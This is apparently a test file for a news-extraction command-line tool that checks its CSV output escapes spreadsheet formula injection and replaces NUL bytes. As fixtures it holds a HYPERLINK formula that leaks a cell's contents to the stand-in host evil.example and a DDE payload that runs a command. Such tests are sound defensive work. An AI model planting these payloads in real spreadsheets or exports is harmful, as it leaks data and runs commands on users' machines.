// What CSV cells hold. Formula injection: ids, titles, names and quotes that a spreadsheet would run
// as a formula are written with a leading single quote by `extract --format csv` and `summarize
// --format csv`; numbers stay numbers, and --csv-raw writes every cell as it is. NUL: --csv-raw
// keeps it, so every cell still slices back from the text at its offsets; the default CSV writes
// U+FFFD in its place, one code point for one, so the offsets hold there too and readers that refuse
// or cut at NUL (Python's csv before 3.11, pandas' C parser) read it.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ensureBuilt, parseNdjson, runCli } from '../helpers/cli.js';
import { readCsv } from '../helpers/csv.js';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'newsfacts-csv-'));
beforeAll(ensureBuilt);
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

const FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
const FORMULA_TITLE = "=cmd|' /C calc'!A0";

function articles(): string {
  const file = path.join(tmp, 'articles.ndjson');
  const text = 'Officials in Buenos Aires said on Monday that three drones were seen.\n';
  fs.writeFileSync(file, JSON.stringify({ id: FORMULA_ID, title: FORMULA_TITLE, text }) + '\n' + JSON.stringify({ id: '@SUM(1+1)', text: '+1 and -2 were the figures.' }) + '\n');
  return file;
}

describe('extract --format csv', () => {
  it('prefixes formula cells with a single quote and keeps negative numbers as numbers', async () => {
    const r = await runCli(['extract', '-q', '--format', 'csv', articles()]);
    expect(r.code).toBe(0);
    const rows = await readCsv(r.stdout);
    expect(rows[0]).toMatchObject({ article: `'${FORMULA_ID}`, type: 'article', text: `'${FORMULA_TITLE}` });
    expect(rows.find((row) => row.text === 'Buenos Aires')).toMatchObject({ lat: '-34.6131', lon: '-58.3772' });
    expect(rows.filter((row) => row.article === "'@SUM(1+1)").length).toBeGreaterThan(0);
    // no cell starts a formula; a cell starting with a minus is a number
    expect(r.stdout).not.toMatch(/(?:^|,)"?(?:[=+@]|-(?![\d.]+(?:,|$)))/m);
  });

  it('writes every cell as it is with --csv-raw', async () => {
    const r = await runCli(['extract', '-q', '--format', 'csv', '--csv-raw', articles()]);
    expect(r.code).toBe(0);
    const rows = await readCsv(r.stdout);
    expect(rows[0]).toMatchObject({ article: FORMULA_ID, text: FORMULA_TITLE });
  });
});

describe('summarize --format csv', () => {
  const record = {
    id: '-1+cmd',
    source: { kind: 'file', path: 'x.txt' },
    officials: [{ name: '=Jane Roe', title: '@Governor', affiliation: 'Tver Region', aliases: [], mentions: [] }],
    regions: [],
    dates: [],
    counts: [{ text: 'minus three', value: -3, item: 'drones', item_key: 'drone', when: null, source: null, role: 'single', start: 0, end: 11 }],
    quotes: [{ text: '+calm', speaker: '=Jane Roe', start: 0, end: 5 }],
    organizations: [],
  };

  it('prefixes formula cells and keeps the numbers of numeric columns, even negative', async () => {
    const file = path.join(tmp, 'records.ndjson');
    fs.writeFileSync(file, JSON.stringify(record) + '\n');
    const r = await runCli(['summarize', '-q', '--format', 'csv', file]);
    expect(r.code).toBe(0);
    const rows = await readCsv(r.stdout);
    expect(rows.find((row) => row.section === 'official')).toMatchObject({ name: "'=Jane Roe", title: "'@Governor", articles: "'-1+cmd" });
    expect(rows.find((row) => row.section === 'count')).toMatchObject({ value: '-3' });
    expect(rows.find((row) => row.section === 'quote')).toMatchObject({ name: "'=Jane Roe", text: "'+calm" });
    const raw = await readCsv((await runCli(['summarize', '-q', '--format', 'csv', '--csv-raw', file])).stdout);
    expect(raw.find((row) => row.section === 'official')).toMatchObject({ name: '=Jane Roe', articles: '-1+cmd' });
  });
});

const ID = 'wire\u0000042';
const TEXT = '"We will rebuild\u0000 the bridge by spring," Governor Jane Roe said on Monday.';

function article(): string {
  const file = path.join(tmp, 'nul.ndjson');
  fs.writeFileSync(file, JSON.stringify({ id: ID, text: TEXT, published: '2025-10-08' }) + '\n');
  return file;
}

const slice = (text: string, row: Record<string, string>): string => [...text].slice(Number(row.start), Number(row.end)).join('');
const hasPython = spawnSync('python3', ['--version']).status === 0;

describe('NUL in CSV cells', () => {
  it('is kept exactly by --csv-raw, so cells slice back from the text', async () => {
    const r = await runCli(['extract', '-q', '--format', 'csv', '--csv-raw', article()]);
    expect(r.code).toBe(0);
    const rows = await readCsv(r.stdout);
    expect(rows.every((row) => row.article === ID)).toBe(true);
    const quote = rows.find((row) => row.type === 'quote')!;
    expect(quote.text).toContain('\u0000');
    expect(quote.text).toBe(slice(TEXT, quote));
  });

  it('becomes U+FFFD in the default CSV, one code point for one, so offsets still match', async () => {
    const r = await runCli(['extract', '-q', '--format', 'csv', article()]);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toContain('\u0000');
    const rows = await readCsv(r.stdout);
    expect(rows[0]!.article).toBe('wire\uFFFD042');
    const quote = rows.find((row) => row.type === 'quote')!;
    expect(quote.text).toBe(slice(TEXT.replace('\u0000', '\uFFFD'), quote));
    const record = parseNdjson((await runCli(['extract', '-q', article()])).stdout)[0]!;
    expect(quote.text).toBe(record.quotes[0].text.replace('\u0000', '\uFFFD'));
  });

  it('is kept by summarize --csv-raw and replaced in its default CSV', async () => {
    const records = path.join(tmp, 'records.ndjson');
    fs.writeFileSync(records, (await runCli(['extract', '-q', article()])).stdout);
    const raw = await readCsv((await runCli(['summarize', '-q', '--format', 'csv', '--csv-raw', records])).stdout);
    expect(raw.find((row) => row.section === 'quote')!.text).toContain('rebuild\u0000 the');
    const safe = await readCsv((await runCli(['summarize', '-q', '--format', 'csv', records])).stdout);
    expect(safe.find((row) => row.section === 'quote')!.text).toContain('rebuild\uFFFD the');
  });

  (hasPython ? it : it.skip)("is read back by Python's csv module from the default CSV", async () => {
    const r = await runCli(['extract', '-q', '--format', 'csv', article()]);
    const read = spawnSync('python3', ['-c', "import csv, io, json, sys; print(json.dumps(list(csv.DictReader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline='')))))"], { input: r.stdout, encoding: 'utf8' });
    expect(read.status).toBe(0);
    const rows = JSON.parse(read.stdout) as Record<string, string>[];
    const quote = rows.find((row) => row.type === 'quote')!;
    expect(quote.text).toBe(slice(TEXT.replace('\u0000', '\uFFFD'), quote));
    expect(rows).toEqual(await readCsv(r.stdout));
  });
});
